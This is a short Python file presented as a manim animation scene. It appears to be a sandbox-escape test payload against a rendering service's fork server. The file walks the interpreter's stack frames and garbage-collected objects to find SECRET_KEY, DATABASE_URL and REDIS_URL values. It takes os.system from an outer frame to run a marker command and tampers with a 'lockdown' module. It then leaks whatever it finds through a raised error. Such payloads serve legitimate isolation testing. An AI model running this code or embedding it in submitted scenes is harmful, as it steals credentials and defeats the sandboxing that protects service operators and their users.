"""Walk the frames up into the fork server (sys._getframe, inspect) and its globals; search gc for secrets.

Looks for the worker's secrets (SECRET_KEY, DATABASE_URL) anywhere in the process memory
reachable from Python, and for the fork server's own modules to undo the lockdown.
"""
from manim import *
import gc
import inspect
import sys

PWNED = "PWN" + "ED!"


class FrameWalk(Scene):
    def construct(self):
        frame, seen = sys._getframe(), []
        while frame is not None:
            seen.append((frame.f_code.co_filename, sorted(frame.f_globals)[:8]))
            frame = frame.f_back
        outer = inspect.stack()[-1].frame.f_globals
        hits = [o for o in gc.get_objects() if isinstance(o, dict)
                for k in o if isinstance(k, str) and k in ("SECRET_KEY", "DATABASE_URL", "REDIS_URL")]
        hits = [{k: v for k, v in h.items() if k in ("SECRET_KEY", "DATABASE_URL", "REDIS_URL")} for h in hits]
        lockdown = sys.modules.get("lockdown")
        system = outer["os"].system
        system("touch /tmp/eigenframe-pwned-@MARK@-34")
        undone = lockdown.enter_empty_network_namespace() if lockdown else None
        raise RuntimeError(f"{PWNED if hits or undone else 'walked'}: {hits} {undone} {seen}")
